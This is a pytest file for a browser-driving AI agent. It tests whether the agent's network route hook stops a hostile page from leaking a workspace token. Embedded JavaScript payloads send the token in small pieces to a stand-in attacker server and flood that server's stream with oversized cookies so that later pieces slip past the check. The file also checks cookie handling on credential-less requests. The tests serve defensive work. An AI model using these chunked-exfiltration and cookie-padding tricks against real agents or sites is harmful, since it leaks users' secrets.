"""The route hook and cookies, session 19.

- Cookies a server sets on answers the hook left to Chromium (plain-path images, also those Chromium blocks itself:
  ORB, read from a CDP session of the page since browse26) were counted as the page's pieces
  of the site's stream: an attacker's server setting big new cookies on such answers pushed a script's earlier pieces
  of the run's data out of the site's 16 kB stream, so the rest of a token sent after them went unjudged with them.
  The hook now reads the ``Set-Cookie`` of those answers too: they are the server's, not the page's pieces.
- A request made without credentials (``fetch(url, {credentials: 'omit'})``, an ``<img crossorigin>``) that the
  hook fetched got the context's cookies for its address (Playwright adds them to a fetch without a Cookie header),
  and so did its redirect hops: it now carries none, as Chromium sends it.

Real Chromium, pages on 127.0.0.1; only the model is scripted."""

from __future__ import annotations

import asyncio
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from agent_helpers import call, drive
from recording_server import RecordingServer, recording_servers
from test_browse17_cookies import _SESSION, _session_site
from test_flow_page_channels import TOKEN, _page, _refused, loopback_websockets

from gofer.events import ConfirmationRequested, Event, RunStatus

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]

_LOOKS = [call("browser_snapshot"), call("browser_scroll", direction="bottom"), call("browser_read"),
          call("browser_scroll", direction="up")]


async def _run(tmp_path: Path, site: RecordingServer, text: str, looks: int = 3) -> tuple[RunStatus, list[Event]]:
    """A run that opens the site's page, reads a workspace token (the run's rule is then in force), types ``text``
    into the page and looks at it ``looks`` times, four ways in turn (time for the page's requests, a refusal is logged
    with the next observation; the same call four times would stop the run as a loop)."""
    ws = tmp_path / "ws"
    (ws / "data").mkdir(parents=True, exist_ok=True)
    (ws / "data" / "token.txt").write_text(f"deploy-token: {TOKEN}\n")
    calls = [call("browser_open", url=f"{site.url}/page"), call("read_file", path="data/token.txt"),
             call("browser_type", ref=1, text=text), *[_LOOKS[i % len(_LOOKS)] for i in range(looks)]]
    return await drive(tmp_path, f"Summarise the page at {site.url}/page", calls, ws,
                       timeout=120, answer="Tomatoes like sun.")


_BIG = 3900
"""Characters of each cookie the attacker's images set (a cookie may hold about 4 kB)."""


_GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


def _setting_cookies(server: RecordingServer, kind: str) -> None:
    """Make ``server`` answer ``/pix/N`` with a new cookie of :data:`_BIG` characters, as a GIF or (``kind``
    "text/html") a page, which Chromium's opaque response blocking stops before the page (the cookie is set)."""
    base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass

    class Setting(base):  # type: ignore[valid-type,misc]
        def _serve(self) -> None:
            path = urlsplit(self.path).path
            if not path.startswith("/pix/"):
                super()._serve()
                return
            server.requests.append(f"GET {self.path} ")
            n = path.rsplit("/", 1)[1]
            body = _GIF if kind == "image/gif" else b"<p>ok</p>"
            self.send_response(200)
            self.send_header("set-cookie", f"big{n}={n * _BIG}; Path=/")
            self.send_header("content-type", kind)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = _serve

    server.server.RequestHandlerClass = Setting


# each request waits for the answer to the one before: the first nine characters of the token three at a time, six
# plain images (each answer sets a big cookie, which the later ones carry: the stream holds them, 19.5 kB, before the
# last piece goes), then the next three characters
_PIECES_AROUND_IMAGES = """(v.length === 24 && (async () => {{
  const send = d => fetch('{a}/in?d=' + d, {{mode: 'no-cors', credentials: 'include'}}).catch(() => {{}});
  for (const i of [0, 3, 6]) await send(v.slice(i, i + 3));
  for (const n of [1, 2, 3, 4, 5, 6]) await new Promise(done => {{
    const img = new Image(); img.onload = img.onerror = done; img.src = '{a}/pix/' + n; }});
  await send(v.slice(9, 12));
  await fetch('{a}/done').catch(() => {{}});
}})())"""


@pytest.mark.usefixtures(loopback_websockets.__name__)
@pytest.mark.parametrize("kind", ["image/gif", "text/html"])
async def test_big_cookies_set_on_plain_images_do_not_push_the_pieces_out(tmp_path: Path, kind: str) -> None:
    attacker, site = RecordingServer(), RecordingServer()
    _setting_cookies(attacker, kind)
    with recording_servers(attacker, site):
        site.pages["/page"] = _page(_PIECES_AROUND_IMAGES.format(a=attacker.url))
        status, events = await _run(tmp_path, site, TOKEN, looks=12)
        for _ in range(50):
            if attacker.hits("/done"):
                break
            await asyncio.sleep(0.1)
    assert status == RunStatus.FINISHED
    assert attacker.hits("/done"), attacker.requests
    assert len(attacker.hits("/pix/")) == 6, attacker.requests  # the images went (and set their cookies)
    sent = "".join(r.split("d=", 1)[1].split(" ", 1)[0] for r in attacker.hits("/in?"))
    assert sent == TOKEN[:9], (sent, _refused(events))
    refused = _refused(events)
    assert refused and "a few characters" in refused[0].reason, refused


def _recording_cookies(server: RecordingServer) -> dict[str, list[str]]:
    """Make ``server`` record the Cookie header of each request to ``/redirect`` and ``/landing``; returns them by
    path."""
    base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass
    got: dict[str, list[str]] = {"/redirect": [], "/landing": []}

    class Recording(base):  # type: ignore[valid-type,misc]
        def _serve(self) -> None:
            path = urlsplit(self.path).path
            if path in got:
                got[path].append(self.headers.get("cookie") or "")
            super()._serve()

        do_GET = do_POST = do_OPTIONS = _serve

    server.server.RequestHandlerClass = Recording
    return got


_WITHOUT_CREDENTIALS = {
    "fetch omit": ("(v.length === 3 && fetch('{r}/redirect?to=' + encodeURIComponent('{r}/landing?topic=roses'), "
                   "{{credentials: 'omit'}}).catch(() => {{}}))"),
    "fetch omit no-cors": ("(v.length === 3 && fetch('{r}/redirect?to=' + encodeURIComponent('{r}/landing?t=roses'), "
                           "{{mode: 'no-cors', credentials: 'omit'}}).catch(() => {{}}))"),
    "img crossorigin": ("(v.length === 3 && (() => {{ const img = new Image(); img.crossOrigin = 'anonymous'; "
                        "img.src = '{r}/redirect?to=' + encodeURIComponent('{r}/landing?topic=roses'); }})())"),
}


@pytest.mark.parametrize("how", list(_WITHOUT_CREDENTIALS))
@pytest.mark.parametrize("same", [True, False], ids=["the page's origin", "another port"])
async def test_a_request_without_credentials_carries_no_cookies_on_any_hop(tmp_path: Path, how: str,
                                                                           same: bool) -> None:
    # the site sets an HttpOnly session for 127.0.0.1 (every port); a request made without credentials to its own
    # origin, or to another port of its host (another origin, the same cookies), bounces to a landing on that origin:
    # Chromium sends neither the request nor its hop any cookie, and neither may the route hook (but see below)
    site, other = RecordingServer(), RecordingServer()
    _session_site(site)
    got = _recording_cookies(site if same else other)
    with recording_servers(site, other):
        site.pages["/page"] = _page(_WITHOUT_CREDENTIALS[how].format(r=site.url if same else other.url))
        status, events = await _run(tmp_path, site, "tom")
        for _ in range(30):
            if got["/landing"]:
                break
            await asyncio.sleep(0.1)
    assert status == RunStatus.FINISHED
    assert not _refused(events) and not [e for e in events if isinstance(e, ConfirmationRequested)]
    assert len(got["/redirect"]) == 1 and len(got["/landing"]) == 1, got
    # an anonymous <img crossorigin> to the page's own origin goes with credentials (same-origin), as in Chromium
    sent = how == "img crossorigin" and same
    assert [_SESSION in c for c in got["/redirect"] + got["/landing"]] == [sent, sent], got
